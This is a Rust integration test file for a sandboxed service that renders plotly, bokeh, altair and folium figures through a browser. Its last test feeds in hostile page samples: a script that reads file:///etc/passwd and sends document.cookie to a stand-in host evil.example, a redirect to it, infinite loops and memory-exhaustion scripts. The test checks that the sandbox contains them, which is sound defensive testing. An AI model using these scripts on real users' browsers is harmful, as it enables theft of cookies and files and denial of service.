//! Figures that a browser draws, end to end through the command: plotly, bokeh, altair and folium from python rows.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

#[path = "../common/command.rs"]
mod command;

use command::{Done, lines};
use image::RgbaImage;
use serde_json::{Value, json};

/// Runs rows to their end, without a fault on the way.
fn run(rows: &[Value]) -> Done {
    let done = command::run(&lines(rows));
    assert_eq!(done.faults, "");
    done
}

/// Asserts that the row went well and every picture shows something.
fn is_well(done: &Done, id: &str) {
    let record = done.record(id);
    assert_eq!(record["verdict"], "ok", "{id}: {} {}", record["cause"], record["stderr"]["text"]);
    for artifact in record["artifacts"].as_array().unwrap() {
        assert!(artifact["problem"].is_null() && artifact["blank"] != true, "{id}: {artifact:#}");
    }
}

fn row(id: &str, code: &str) -> Value {
    json!({"id": id, "runtime": "python", "code": code})
}

const PLOTLY: &str = "import plotly.graph_objects as go
fig = go.Figure([go.Bar(x=['a', 'b', 'c'], y=[3, 1, 2]), go.Scatter(x=['a', 'b', 'c'], y=[1, 2, 3])])
fig.update_layout(title='Rows & columns')
";
const BOKEH: &str = "from bokeh.plotting import figure, show, save, output_file
from bokeh.io import export_png, export_svg
p = figure(width=410, height=230, title='Points')
p.scatter([1, 2, 3], [3, 1, 2], size=12)
";
const ALTAIR: &str = "import altair as alt
chart = alt.Chart(alt.Data(values=[{'a': 'u', 'b': 2}, {'a': 'v', 'b': 5}])).mark_bar().encode(x='a:N', y='b:Q')
chart = chart.properties(width=200, height=100)
";
const FOLIUM: &str = "import folium
m = folium.Map([48.2, 16.4], zoom_start=12)
folium.Circle([48.2, 16.4], radius=2000, fill=True).add_to(m)
";

#[test]
fn each_library_shows_saves_and_exports() {
    let code = |head: &str, rest: &str| format!("{head}{rest}");
    let done = run(&[
        row("show", &code(PLOTLY, "fig.show()\nprint('after')")),
        row(
            "write",
            &code(
                PLOTLY,
                "for name in ('a.png', 'b.jpg', 'c.svg', 'd.webp', 'f.pdf'):\n fig.write_image(name)\nfig.write_image('e.png', scale=2, width=300, height=200)\nprint(fig.to_json())",
            ),
        ),
        row(
            "moved",
            &code(
                PLOTLY,
                "import os, shutil\nfig.write_image('a.png')\nos.mkdir('out')\nshutil.move('a.png', 'out/b.png')",
            ),
        ),
        row(
            "html",
            &code(
                PLOTLY,
                "fig.write_html('whole.html')\nfig.write_html('cdn.html', include_plotlyjs='cdn')\nfig.write_html('beside.html', include_plotlyjs='directory')",
            ),
        ),
        row(
            "bokeh",
            &code(
                BOKEH,
                "show(p)\nexport_png(p, filename='a.png', scale_factor=2)\nexport_svg(p, filename='b.svg')\noutput_file('c.html')\nsave(p)",
            ),
        ),
        row(
            "altair",
            &code(
                ALTAIR,
                "chart.show()\nchart.save('a.png', scale_factor=2)\nchart.save('b.svg')\nchart.save('c.html')\nchart.save('d.json')\nchart.save('e.pdf')",
            ),
        ),
        row("folium", &code(FOLIUM, "m.save('map.html')")),
        row("opens", &code(FOLIUM, "m.show_in_browser()")),
        row(
            "mixed",
            &code(
                PLOTLY,
                "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\nfig.show()\nplt.plot([2, 1])\n",
            ),
        ),
    ]);
    for id in ["show", "write", "moved", "html", "bokeh", "altair", "folium", "opens", "mixed"] {
        is_well(&done, id);
    }

    let show = done.artifact("show", "figure-1.png");
    assert_eq!(
        (&show["kind"], &show["origin"]["call"], &show["origin"]["line"]),
        (&json!("figure"), &json!("show"), &json!(4))
    );
    assert_eq!(done.size("show", "figure-1.png"), (700, 500));
    assert_eq!(done.record("show")["stdout"]["text"], "after\n");
    assert_eq!(show["facts"]["title"], "Rows & columns");
    let versions = &done.record("show")["runtime"]["versions"];
    assert!(versions["chromium"].is_string() && versions["web-image"].is_string() && versions["plotly"].is_string());
    assert!(done.record("mixed")["runtime"]["name"] == "python");

    let figures = ["figure-1.png", "figure-2.png", "figure-3.png", "figure-4.png"];
    let files = ["a.png", "b.jpg", "c.svg", "d.webp", "e.png", "f.pdf"];
    assert_eq!(done.names("write"), [&figures[..], &files[..]].concat());
    assert_eq!(done.size("write", "e.png"), (600, 400));
    let kinds =
        ["a.png", "b.jpg", "c.svg", "d.webp", "f.pdf"].map(|name| done.artifact("write", name)["media_type"].clone());
    assert_eq!(kinds, ["image/png", "image/jpeg", "image/svg+xml", "image/webp", "application/pdf"]);
    assert_eq!(done.artifact("write", "a.png")["origin"]["call"], "write_image");
    // The same figure, shown and saved in several formats: one picture.
    let png = done.picture("write", "a.png");
    assert!(png == done.picture("write", "figure-1.png") && png == done.picture("show", "figure-1.png"));
    assert_eq!(done.names("moved"), ["out/b.png"]);
    assert!(done.picture("moved", "out/b.png") == png);

    let expected =
        ["figure-1.png", "figure-2.png", "figure-3.png", "beside.html", "cdn.html", "plotly.min.js", "whole.html"];
    assert_eq!(done.names("html"), expected);
    let window = done.picture("html", "figure-1.png");
    assert_eq!(window.dimensions(), (1280, 720));
    assert!(window == done.picture("html", "figure-2.png") && window == done.picture("html", "figure-3.png"));
    assert_eq!(done.artifact("html", "cdn.html")["kind"], "document");

    assert_eq!(
        done.names("bokeh"),
        ["figure-1.png", "figure-2.png", "figure-3.png", "a.png", "b.svg", "c.html", "main.html"]
    );
    let sizes = ["figure-1.png", "a.png", "figure-2.png", "figure-3.png"].map(|name| done.size("bokeh", name));
    assert_eq!(sizes, [(410, 230), (820, 460), (410, 230), (1280, 720)]);

    assert_eq!(
        done.names("altair"),
        ["figure-1.png", "figure-2.png", "figure-3.png", "figure-4.png", "a.png", "b.svg", "c.html", "d.json", "e.pdf"]
    );
    let (width, height) = done.size("altair", "figure-1.png");
    assert!(width > 200 && height > 100, "{width} x {height}");
    assert_eq!(done.size("altair", "a.png"), (2 * width, 2 * height));

    assert_eq!(done.size("folium", "figure-1.png"), (1280, 720));
    assert!(done.picture("folium", "figure-1.png") == done.picture("opens", "figure-1.png"));
    assert_eq!(done.names("mixed"), ["figure-1.png", "figure-2.png", "figure-3.png"]);

    answered(&done);
    is_what_plotly_draws(&done, &png);
}

/// The mirror has what the libraries' pages ask for, in the versions that the image's packages name.
fn answered(done: &Done) {
    // Small styles of folium's that no npm package has, and the tiles of its maps.
    let known = ["tile.openstreetmap.org", "/bootstrap-glyphicons.css", "/leaflet.awesome.rotate.min.css"];
    for (id, record) in &done.records {
        for artifact in record["artifacts"].as_array().unwrap() {
            let page = &artifact["facts"]["page"];
            assert!(page["uncaught"].is_null(), "{id}: {page}");
            for address in page["unanswered"].as_array().into_iter().flatten() {
                let address = address.as_str().unwrap();
                assert!(
                    known.iter().any(|known| address.contains(known)),
                    "{id}: {address} is not answered: did a package of images/python change its version? \
                     `glasshouse images mirror add --lock images/web/mirror.lock` adds what it asks for"
                );
            }
        }
    }
}

/// `write_image` gives the pixels that `Plotly.toImage` gives on a page of its own.
fn is_what_plotly_draws(done: &Done, png: &RgbaImage) {
    let figure = done.record("write")["stdout"]["text"].as_str().unwrap();
    let code = format!(
        "<!DOCTYPE html><body style='margin:0'><script src='https://cdn.plot.ly/plotly-4.1.1.min.js'></script><script>
        Plotly.toImage({}, {{format: 'png', width: 700, height: 500, scale: 1}}).then((data) => {{
          const image = new Image();
          image.id = 'drawn';
          image.style.display = 'block';
          image.src = data;
          document.body.append(image);
        }});</script>",
        figure.trim().replace('<', "\\u003c")
    );
    let page = json!({"captures": {"shots": [{"name": "drawn", "area": {"element": "#drawn"}}]}});
    let drawn = run(&[json!({"id": "page", "runtime": "web", "code": code, "page": page})]);
    assert!(drawn.picture("page", "drawn.png") == *png, "the pixels differ");
}

#[test]
fn a_hostile_page_costs_its_own_row_and_no_other() {
    let brief = |id: &str, code: &str| json!({"id": id, "runtime": "python", "code": code, "limits": {"wall": "8s"}});
    let show = |html: &str| {
        format!(
            "import json\nopen('/opt/glasshouse/out/0001.html', 'w').write({html:?})\n\
             view = {{'file': '0001.html', 'promise': None, 'picture': 'window', 'ready': False, 'width': 640, 'height': 480, 'scale': 1.0}}\n\
             json.dump({{'origin': {{'call': 'show'}}, 'page': view}}, open('/opt/glasshouse/out/0001.json', 'w'))\n"
        )
    };
    let good = |n: u32| row(&format!("good-{n}"), &format!("{PLOTLY}fig.show()"));
    let reads = "<p>x</p><script>
        for (const url of ['file:///etc/passwd', 'http://127.0.0.1:80/', 'https://evil.example/?' + document.cookie])
          fetch(url).then((answer) => answer.text()).then((text) => { document.body.textContent = 'LEAKED ' + text; });
        localStorage.setItem('seen', '1'); window.open('https://evil.example'); alert(1);</script>";
    let done = run(&[
        brief("loops", &show("<p>x<script>for (;;) {}</script>")),
        good(1),
        brief(
            "allocates",
            &show("<p>x<script>const all = []; for (;;) all.push(new Uint8Array(1 << 26).fill(1));</script>"),
        ),
        good(2),
        brief("reads", &show(reads)),
        brief(
            "huge",
            &show("<div style='width:100000px;height:100000px;background:linear-gradient(red,blue)'>")
                .replace("640", "16384")
                .replace("480", "16384"),
        ),
        good(3),
        brief("leaves", &show("<script>location.href = 'https://evil.example/'</script>")),
        brief(
            "never",
            &format!("{PLOTLY}fig.write_html('a.html', include_plotlyjs='cdn', post_script='while (true) {{}}')"),
        ),
        good(4),
        brief("many", &format!("{PLOTLY}for n in range(40):\n fig.update_layout(title=str(n)); fig.show()\n")),
    ]);
    for n in 1..=4 {
        is_well(&done, &format!("good-{n}"));
        assert!(done.picture(&format!("good-{n}"), "figure-1.png") == done.picture("good-1", "figure-1.png"));
    }
    for id in ["loops", "allocates", "never", "leaves"] {
        let record = done.record(id);
        assert_eq!(
            (&record["verdict"], &record["cause"]["code"]),
            (&json!("invalid_artifact"), &json!("picture")),
            "{id}: {record}"
        );
        assert!(record["cause"]["message"].as_str().unwrap().contains("page was not shown"), "{id}: {record}");
    }
    // The page was shown, with nothing from anywhere on it.
    is_well(&done, "reads");
    let unanswered = done.artifact("reads", "figure-1.png")["facts"]["page"]["unanswered"].to_string();
    assert!(unanswered.contains("evil.example") && unanswered.contains("127.0.0.1"), "{unanswered}");
    let plain = run(&[brief("plain", &show("<p>x</p>"))]);
    assert!(plain.picture("plain", "figure-1.png") == done.picture("reads", "figure-1.png"));
    // Forty pages share the time of one program: what was drawn is there, what was not says so.
    let many = done.record("many")["artifacts"].as_array().unwrap();
    assert_eq!(many.len(), 40);
    assert!(many[0]["problem"].is_null(), "{}", many[0]);
}
